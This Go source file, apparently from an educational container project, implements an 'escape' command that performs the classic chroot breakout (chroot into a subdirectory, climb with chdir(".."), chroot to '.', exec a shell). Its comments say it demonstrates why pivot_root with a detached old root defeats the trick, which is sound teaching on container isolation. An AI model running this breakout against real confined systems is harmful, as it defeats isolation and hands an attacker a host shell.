package main

// escape.go is a demonstration, not part of the runtime: the classic way a
// root process leaves a chroot. Copy this program into a rootfs and run
// "escape" inside a container: with pivot_root and the old root detached,
// the climb ends at the container's own root.

import (
	"fmt"
	"os"

	"box/final/internal/narrate"
	"box/final/internal/sys"
)

type escapeCmd struct {
	Command []string `arg:"" optional:"" passthrough:"" name:"cmd" help:"What to run if the escape works (default: /bin/sh)."`
}

// Run chroots into a subdirectory without entering it, so the working
// directory is left outside the new root; chroot(2) does not move it. From
// there ".." is never clamped at the root, so enough "cd .." reach the real
// root, and chroot(".") makes it ours again.
func (e *escapeCmd) Run() error {
	narrate.Explain(narrate.Root, "Chroot into a subdirectory but stay outside it, then climb up with chdir(\"..\").")
	if err := os.MkdirAll(".escape", 0o700); err != nil {
		return fmt.Errorf("mkdir .escape: %w", err)
	}
	if err := sys.Chroot(".escape"); err != nil {
		return err
	}
	if err := sys.ChdirUp(64); err != nil {
		return err
	}
	narrate.Explain(narrate.Root, "Make the directory we climbed to the root: if it is the host's, we are out.")
	if err := sys.Chroot("."); err != nil {
		return err
	}
	argv := e.Command
	if len(argv) == 0 {
		argv = []string{"/bin/sh"}
	}
	return sys.Execve(argv[0], argv, os.Environ())
}
